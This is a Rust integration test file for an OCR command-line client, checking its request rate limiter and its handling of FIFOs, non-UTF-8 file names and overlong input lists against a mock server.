/// The shortest time between request `i` and request `i + n` as the
/// server saw them arrive.
fn shortest_span(mut at: Vec<Instant>, n: usize) -> Duration {
    at.sort();
    at.windows(n + 1)
        .map(|w| w[n] - w[0])
        .min()
        .expect("more than n requests")
}

#[test]
fn no_more_than_qps_requests_arrive_in_any_second() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = (0..16)
        .map(|i| picture(dir.path(), &format!("q{i:02}.png"), 70 + i))
        .collect();
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", "--qps", "5"])
        .args(&files)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let at: Vec<Instant> = server.requests().iter().map(|r| r.at).collect();
    assert_eq!(at.len(), 16);
    // Any 6 consecutive arrivals span at least a second, less what the way
    // from xocr's limiter to the server's clock can add to one request and
    // not to the one five before it: xocr starts requests at least 1000 ms
    // apart (its own clock), then each still has to be encoded, written to
    // the socket and read by a server thread. On one idle machine over
    // loopback that varies by well under a millisecond; the 50 ms allowed
    // is for a loaded 2-core machine descheduling one of those threads
    // (10 ms was seen to be exceeded at load averages of 8-12), and is far
    // less than one request's spacing at 5 per second (200 ms).
    let span = shortest_span(at, 5);
    eprintln!("shortest span of 6 consecutive requests: {span:?}");
    assert!(
        span >= Duration::from_millis(950),
        "6 requests within {span:?}"
    );
}

#[test]
fn a_fractional_qps_lets_its_whole_part_into_any_second() {
    // At 2.5 requests a second, no second may hold 3 (evenly spaced at
    // 400 ms, 3 requests would start within 800 ms).
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = (0..8)
        .map(|i| picture(dir.path(), &format!("f{i}.png"), 90 + i))
        .collect();
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", "--qps", "2.5"])
        .args(&files)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let at: Vec<Instant> = server.requests().iter().map(|r| r.at).collect();
    assert_eq!(at.len(), 8);
    // The same 50 ms allowance for the way to the server's clock; the
    // limiter before the fix let 3 in within about 800 ms.
    let span = shortest_span(at, 2);
    eprintln!("shortest span of 3 consecutive requests: {span:?}");
    assert!(
        span >= Duration::from_millis(950),
        "3 requests within {span:?}"
    );
}

// 8. Odd files and names ---------------------------------------------------------

/// Makes a FIFO at `path` with mkfifo(1); false when there is none.
fn mkfifo(path: &Path) -> bool {
    std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
fn a_fifo_in_a_folder_walk_is_skipped_without_opening_it() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let scans = dir.path().join("scans");
    std::fs::create_dir(&scans).unwrap();
    picture(&scans, "a.png", 100);
    // No picture extension: the walk would open them to look at their
    // first bytes, and opening a FIFO waits for a writer forever.
    if !mkfifo(&scans.join("pipe")) || !mkfifo(&scans.join("scan-0002.dat")) {
        eprintln!("no mkfifo: skipped");
        return;
    }
    let out = xocr(dir.path(), &server.url, TOKEN)
        .timeout(Duration::from_secs(20))
        .args(["scan", "-o", "jsonl", "-r"])
        .arg(&scans)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "hung or failed: {}",
        text(&out.stderr)
    );
    let records = jsonl(&out.stdout);
    assert_eq!(records.len(), 1, "{records:?}");
    assert!(records[0]["file"].as_str().unwrap().ends_with("a.png"));
}

#[test]
fn a_fifo_named_on_the_command_line_fails_alone_and_does_not_hang() {
    // Named explicitly, a FIFO is an input that fails with its reason
    // (as the README says of pipes), without waiting for a writer; the
    // rest of the batch runs.
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 101);
    let fifo = dir.path().join("named.png");
    if !mkfifo(&fifo) {
        return;
    }
    let out = xocr(dir.path(), &server.url, TOKEN)
        .timeout(Duration::from_secs(20))
        .args(["scan", "-o", "jsonl"])
        .arg(&fifo)
        .arg(&a)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let records = jsonl(&out.stdout);
    assert_eq!(records[1]["ok"], true);
    let m = records[0]["error"]["message"].as_str().unwrap();
    assert!(m.contains("not a regular file"), "{m}");
}

/// Writes `png(seed)` under `dir` at a name given as raw bytes.
fn picture_at(dir: &Path, name: &[u8], seed: u8) -> PathBuf {
    use std::os::unix::ffi::OsStrExt;
    let p = dir.join(std::ffi::OsStr::from_bytes(name));
    std::fs::write(&p, png(seed)).unwrap();
    p
}

#[test]
fn a_glob_over_a_folder_with_a_non_utf8_name_does_not_panic() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let gbk = dir.path().join("gbk");
    std::fs::create_dir(&gbk).unwrap();
    picture(&gbk, "a.png", 110);
    // 东 in GBK: not UTF-8. One the pattern does not match, one it does.
    picture_at(&gbk, b"\xB6\xAB.txt", 111);
    picture_at(&gbk, b"\xB6\xAB.png", 112);
    let pattern = format!("{}/*.png", gbk.display());
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", &pattern])
        .output()
        .unwrap();
    let stderr = text(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let files: Vec<String> = jsonl(&out.stdout)
        .iter()
        .map(|r| r["file"].as_str().unwrap().to_string())
        .collect();
    let g = gbk.display();
    assert_eq!(files, [format!("{g}/a.png"), format!("{g}/\\xB6\\xAB.png")]);
    // The matched files' own bytes were sent.
    assert_eq!(server.requests().len(), 2);
    // A pattern that matches only the odd name, one that matches nothing.
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", &format!("{g}/?*.txt")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", &format!("{g}/*.gif")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("no file matches"));
}

#[test]
fn two_non_utf8_names_get_two_labels() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let gbk = dir.path().join("gbk");
    std::fs::create_dir(&gbk).unwrap();
    // 东 and 动 in GBK: the same lossy text (two U+FFFD each).
    picture_at(&gbk, b"\xB6\xAB.jpg", 120);
    picture_at(&gbk, b"\xB6\xAF.jpg", 121);
    // A UTF-8 name that reads like the escape of the first.
    picture_at(&gbk, b"\\xB6\\xAB.jpg", 122);
    let out = xocr(dir.path(), &server.url, TOKEN)
        .current_dir(dir.path())
        .args(["scan", "-o", "jsonl", "-r", "gbk"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let mut files: Vec<String> = jsonl(&out.stdout)
        .iter()
        .map(|r| r["file"].as_str().unwrap().to_string())
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "gbk/\\\\xB6\\\\xAB.jpg",
            "gbk/\\xB6\\xAB.jpg",
            "gbk/\\xB6\\xAF.jpg"
        ]
    );
    // Each picture was sent once.
    assert_eq!(server.requests().len(), 3);
}

#[test]
fn a_list_of_inputs_is_bounded() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 130);
    let run = |list: &Path| {
        xocr(dir.path(), &server.url, TOKEN)
            .timeout(Duration::from_secs(30))
            .arg("scan")
            .arg("--files-from")
            .arg(list)
            .output()
            .unwrap()
    };
    // /dev/zero has no line end: the first line is too long at 4097 bytes.
    let out = run(Path::new("/dev/zero"));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("--files-from /dev/zero: line 1 is longer than 4096 bytes"),
        "{err}"
    );
    let list = dir.path().join("list.txt");
    std::fs::write(&list, format!("{}\n{}\n", a.display(), "x".repeat(5000))).unwrap();
    let out = run(&list);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("list.txt: line 2 is longer than 4096 bytes"),
        "{err}"
    );
    assert!(server.requests().is_empty());
    // A list within the bounds runs.
    std::fs::write(&list, format!("{}\n", a.display())).unwrap();
    assert_eq!(run(&list).status.code(), Some(0));
}
